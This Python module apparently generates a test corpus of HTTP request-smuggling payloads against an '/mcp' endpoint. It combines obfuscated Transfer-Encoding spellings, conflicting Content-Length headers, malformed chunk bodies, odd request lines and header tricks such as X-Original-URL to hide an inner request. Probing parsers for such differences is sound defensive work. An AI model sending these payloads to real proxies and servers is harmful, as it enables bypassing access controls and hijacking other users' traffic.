"""What has been sent to proxies to have them and the server behind them see different requests: framings, chunks, lines and targets.

A whole request is hidden in each, which is a call only to who reads it as a request of its own."""
from __future__ import annotations

from collections.abc import Iterator

CHUNKED, END = b"Transfer-Encoding: chunked\r\n", b"0\r\n\r\n"

# spellings of `Transfer-Encoding: chunked` that one reader may take for it and another not
CODINGS = {
    "plain": CHUNKED, "upper case": b"TRANSFER-ENCODING: CHUNKED\r\n", "no space": b"Transfer-Encoding:chunked\r\n",
    "a tab": b"Transfer-Encoding:\tchunked\r\n", "a vertical tab": b"Transfer-Encoding:\x0bchunked\r\n",
    "a form feed": b"Transfer-Encoding:\x0cchunked\r\n", "a space before the colon": b"Transfer-Encoding : chunked\r\n",
    "a tab before the colon": b"Transfer-Encoding\t: chunked\r\n", "a space before the name": b" Transfer-Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\n", "folded": b"Transfer-Encoding:\r\n chunked\r\n", "folded by LF": b"Transfer-Encoding:\n chunked\r\n",
    "behind a bare LF": b"X: y\nTransfer-Encoding: chunked\r\n", "behind a bare CR": b"X: y\rTransfer-Encoding: chunked\r\n",
    "ended by LF": b"Transfer-Encoding: chunked\n", "ended by CR": b"Transfer-Encoding: chunked\r\r\n",
    "NUL behind": b"Transfer-Encoding: chunked\0\r\n", "NUL in the name": b"Transfer-Encoding\0: chunked\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\n', "single quotes": b"Transfer-Encoding: 'chunked'\r\n", "no coding": b"Transfer-Encoding:\r\n",
    "unknown": b"Transfer-Encoding: xchunked\r\n", "cut": b"Transfer-Encoding: chunke\r\n", "a parameter": b"Transfer-Encoding: chunked;q=1\r\n",
    "identity": b"Transfer-Encoding: identity\r\n", "identity behind": b"Transfer-Encoding: chunked, identity\r\n",
    "identity before": b"Transfer-Encoding: identity, chunked\r\n", "gzip before": b"Transfer-Encoding: gzip, chunked\r\n",
    "gzip behind": b"Transfer-Encoding: chunked, gzip\r\n", "twice in a list": b"Transfer-Encoding: chunked, chunked\r\n",
    "an empty element before": b"Transfer-Encoding: ,chunked\r\n", "an empty element behind": b"Transfer-Encoding: chunked,\r\n",
    "twice": CHUNKED * 2, "unknown behind": CHUNKED + b"Transfer-Encoding: cow\r\n", "unknown before": b"Transfer-Encoding: cow\r\n" + CHUNKED,
    "empty behind": CHUNKED + b"Transfer-Encoding:\r\n", "dropped as of this hop": b"Connection: Transfer-Encoding\r\n" + CHUNKED,
    "non-breaking space": b"Transfer-Encoding:\xa0chunked\r\n", "letters beyond ASCII": "Transfer-Encoding: chun\u212aed\r\n".encode()}

# the length `%d` and what else says how long the body would be
LENGTHS = {
    "none": b"", "two": b"Content-Length: 0\r\nContent-Length: %d\r\n", "two, the other way round": b"Content-Length: %d\r\nContent-Length: 0\r\n",
    "the same twice": b"Content-Length: %d\r\nContent-Length: %d\r\n", "a list": b"Content-Length: 0, %d\r\n", "a list of the same": b"Content-Length: %d, %d\r\n",
    "a sign": b"Content-Length: +%d\r\n", "a minus": b"Content-Length: -%d\r\n", "a zero before": b"Content-Length: 0%d\r\n",
    "a comma behind": b"Content-Length: %d,\r\n", "a space between": b"Content-Length: 0 %d\r\n", "hexadecimal": b"Content-Length: 0x%x\r\n",
    "a point": b"Content-Length: %d.0\r\n", "an exponent": b"Content-Length: %de0\r\n", "an underscore": b"Content-Length: 0_%d\r\n",
    "empty, then": b"Content-Length:\r\nContent-Length: %d\r\n", "beyond 64 bits": b"Content-Length: 18446744073709551616\r\n",
    "around 32 bits": b"Content-Length: 4294967296\r\n", "a space before the colon": b"Content-Length : %d\r\n",
    "a vertical tab": b"Content-Length:\x0b%d\r\n", "folded": b"Content-Length:\r\n %d\r\n", "folded behind a zero": b"Content-Length: 0\r\n %d\r\n",
    "underscore": b"Content_Length: %d\r\n", "NUL behind": b"Content-Length: %d\0\r\n", "behind a bare LF": b"X: y\nContent-Length: %d\r\n",
    "behind a bare CR": b"X: y\rContent-Length: %d\r\n", "dropped as of this hop": b"Connection: Content-Length\r\nContent-Length: %d\r\n",
    "digits of another script": "Content-Length: \u0661%d\r\n".encode()}

# a chunked body; `%s`: the hidden request, `%x`: its length
CHUNKS = {
    "sound": b"%x\r\n%s\r\n" + END, "an extension": b"%x;a=b\r\n%s\r\n" + END, "a quoted extension": b'%x;a="\r\n%s\r\n' + END,
    "an extension with LF": b"%x;a\nb\r\n%s\r\n" + END, "an extension with CR": b"%x;a\rb\r\n%s\r\n" + END,
    "an extension of 64 KiB": b"%x;" + b"a" * 65536 + b"\r\n%s\r\n" + END, "LF behind the size": b"%x\n%s\r\n" + END, "CR behind the size": b"%x\r%s\r\n" + END,
    "LF behind the chunk": b"%x\r\n%s\n" + END, "nothing behind the chunk": b"%x\r\n%s" + END, "letters behind the chunk": b"%x\r\n%sXX" + END,
    "a space behind the size": b"%x \r\n%s\r\n" + END, "a space before the size": b" %x\r\n%s\r\n" + END, "a sign": b"+%x\r\n%s\r\n" + END,
    "a minus": b"-%x\r\n%s\r\n" + END, "a prefix": b"0x%x\r\n%s\r\n" + END, "an underscore": b"0_%x\r\n%s\r\n" + END, "zeros before": b"0000000000000000000%x\r\n%s\r\n" + END,
    "beyond 64 bits": b"1000000000000000%x\r\n%s\r\n" + END, "all ones": b"ffffffffffffffff\r\n%s\r\n" + END, "no size": b"\r\n%s\r\n" + END, "NUL before the size": b"\0%x\r\n%s\r\n" + END,
    "the end, then more": END + b"%s", "an end with an extension": b"0;a=b\r\n\r\n%s", "an end with LF": b"0\n\n%s", "an end of many zeros": b"00000\r\n\r\n%s",
    "a trailer": b"0\r\nX-Trailer: y\r\n\r\n%s", "a length as a trailer": b"0\r\nContent-Length: 4\r\n\r\n%s", "a coding as a trailer": b"0\r\nTransfer-Encoding: chunked\r\n\r\n%s",
    "a token as a trailer": b"0\r\nAuthorization: Bearer x\r\n\r\n%s", "a folded trailer": b"0\r\nX: y\r\n z\r\n\r\n%s", "a trailer with LF": b"0\r\nX: y\n\r\n%s", "a trailer without a colon": b"0\r\n%s\r\n\r\n"}

# a first line in the place of the usual one
LINES = [
    b"POST  /mcp HTTP/1.1\r\n", b"POST /mcp\tHTTP/1.1\r\n", b"POST /mcp HTTP/1.1 \r\n", b"POST /mcp HTTP/1.1\n", b"POST /mcp HTTP/1.1\r\r\n",
    b"\r\nPOST /mcp HTTP/1.1\r\n", b"\n\n\nPOST /mcp HTTP/1.1\r\n", b" POST /mcp HTTP/1.1\r\n", b"POST /mcp HTTP/1.0\r\n", b"POST /mcp HTTP/1.01\r\n",
    b"POST /mcp HTTP/1.2\r\n", b"POST /mcp HTTP/2.0\r\n", b"POST /mcp HTTP/0.9\r\n", b"POST /mcp http/1.1\r\n", b"POST /mcp ICY/1.1\r\n", b"POST /mcp\r\n",
    b"post /mcp HTTP/1.1\r\n", b"P\0ST /mcp HTTP/1.1\r\n", b"POST /m\0cp HTTP/1.1\r\n", b"POST /mcp?a b HTTP/1.1\r\n", b"POST /mcp#a HTTP/1.1\r\n",
    b"POST /mcp%0d%0aX:%20y HTTP/1.1\r\n", b"POST //mcp HTTP/1.1\r\n", b"POST /x/../mcp HTTP/1.1\r\n", b"POST mcp HTTP/1.1\r\n", b"POST * HTTP/1.1\r\n",
    b"POST http://127.0.0.1/mcp HTTP/1.1\r\n", b"POST http://other.example/mcp HTTP/1.1\r\n", b"POST http://127.0.0.1:x/mcp HTTP/1.1\r\n",
    b"POST https://u:p@other.example/mcp HTTP/1.1\r\n", b"POST http:///mcp HTTP/1.1\r\n", b"POST ftp://127.0.0.1/mcp HTTP/1.1\r\n",
    b"CONNECT 127.0.0.1:443 HTTP/1.1\r\n", b"GET /mcp HTTP/1.1\r\n", b"DELETE /mcp HTTP/1.1\r\n", b"OPTIONS * HTTP/1.1\r\n", b"TRACE /mcp HTTP/1.1\r\n"]

# fields beside a sound length
FIELDS = {
    "two hosts": b"Host: other.example\r\n", "a folded field": b"X: y\r\n z\r\n", "a fold by tab": b"X: y\r\n\tz\r\n", "a fold of nothing": b"X:\r\n \r\n",
    "no colon": b"X y\r\n", "no name": b": y\r\n", "a space in the name": b"X Y: z\r\n", "NUL in a value": b"X: \0\r\n", "a bare CR": b"X: a\rb\r\n",
    "a bare LF": b"X: a\nY: b\r\n", "an end by LF LF": b"X: a\n\n", "DEL": b"X: \x7f\r\n", "bytes beyond ASCII": b"X: \xff\xfe\r\n",
    "a name beyond ASCII": b"\xc5\xbd: y\r\n", "a wait for 100": b"Expect: 100-continue\r\n", "a wait for something else": b"Expect: 100-continued\r\n",
    "two waits": b"Expect: x\r\nExpect: 100-continue\r\n", "h2c": b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQ\r\n",
    "WebSocket": b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
    "the token dropped as of this hop": b"Connection: close, Authorization\r\n", "the host dropped as of this hop": b"Connection: Host\r\n",
    "a proxy's connection": b"Proxy-Connection: keep-alive\r\n", "a field of 20 kB": b"X: " + b"y" * 20_000 + b"\r\n", "500 fields": b"X: y\r\n" * 500,
    "another method": b"X-HTTP-Method-Override: DELETE\r\n", "another target": b"X-Original-URL: /admin\r\nX-Rewrite-URL: /admin\r\n"}

POST = b"POST /mcp HTTP/1.1\r\n"


def corpus(fields: bytes, inner: bytes, body: bytes) -> Iterator[tuple[str, bytes]]:
    """Each attack by its name; `fields`: those of a sound call, without a length; `inner`: what is hidden; `body`: that of the sound call."""
    hidden = b"%x\r\n" % len(inner)
    for name, coding in CODINGS.items():
        short = END + inner
        yield f"CL.TE, {name}", POST + fields + b"Content-Length: %d\r\n" % len(short) + coding + b"\r\n" + short
        yield f"TE.CL, {name}", POST + fields + coding + b"Content-Length: %d\r\n" % len(hidden) + b"\r\n" + hidden + inner + b"\r\n" + END
        yield f"TE, {name}", POST + fields + coding + b"\r\n" + hidden + inner + b"\r\n" + END
    for name, length in LENGTHS.items():
        yield f"CL, {name}", POST + fields + length.replace(b"%d", b"%d" % len(inner)).replace(b"%x", b"%x" % len(inner)) + b"\r\n" + inner
    for name, chunks in CHUNKS.items():
        yield f"chunks, {name}", POST + fields + CHUNKED + b"\r\n" + chunks.replace(b"%x", b"%x" % len(inner)).replace(b"%s", inner)
    for line in LINES:
        yield f"line {line.decode('latin-1')!r}", line + fields + b"Content-Length: %d\r\n\r\n" % len(inner) + inner
        yield f"line and no length {line.decode('latin-1')!r}", line + fields + b"\r\n" + inner
    for name, field in FIELDS.items():
        yield f"field, {name}", POST + fields + field + b"Content-Length: %d\r\n\r\n" % len(body) + body + inner
    yield "all lines end in LF", (POST + fields + b"Content-Length: %d\r\n\r\n" % len(body)).replace(b"\r\n", b"\n") + body + inner
    yield "all lines end in CR", (POST + fields + b"Content-Length: %d\r\n\r\n" % len(body)).replace(b"\r\n", b"\r") + body + inner
    yield "the head ends twice", POST + fields + b"Content-Length: %d\r\n\r\n\r\n" % len(body) + body + inner
